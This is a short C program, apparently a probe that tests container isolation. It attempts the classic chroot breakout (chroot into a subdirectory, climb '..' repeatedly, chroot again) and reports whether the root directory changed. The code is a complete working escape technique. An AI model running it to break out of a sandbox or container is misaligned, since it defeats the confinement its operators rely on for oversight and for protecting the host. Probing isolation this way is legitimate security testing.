/* Tries to leave the container's root the classic ways a root process with
 * CAP_SYS_CHROOT (docker's default set) has: chroot into a subdirectory
 * while the working directory stays outside it, then `..` as far as the
 * kernel lets it go, and chroot there. Prints the device and inode of "/"
 * before and after, and the names in the "/" it ended in:
 *   before DEV:INO
 *   after DEV:INO
 *   names NAME...
 */
#include <dirent.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

static void show(const char *what) {
    struct stat st;
    if (stat("/", &st) != 0) {
        perror("stat /");
        _exit(2);
    }
    printf("%s %lu:%lu\n", what, (unsigned long)st.st_dev, (unsigned long)st.st_ino);
}

int main(void) {
    show("before");
    mkdir("/escape-probe", 0700);
    if (chroot("/escape-probe") != 0) {
        perror("chroot /escape-probe");
        return 2;
    }
    /* The working directory is still the old root: outside the new one. */
    for (int i = 0; i < 64; i++) {
        if (chdir("..") != 0) {
            perror("chdir ..");
            return 2;
        }
    }
    if (chroot(".") != 0) {
        perror("chroot .");
        return 2;
    }
    show("after");
    DIR *d = opendir("/");
    if (!d) {
        perror("opendir /");
        return 2;
    }
    printf("names");
    struct dirent *e;
    while ((e = readdir(d)))
        printf(" %s", e->d_name);
    printf("\n");
    closedir(d);
    return 0;
}
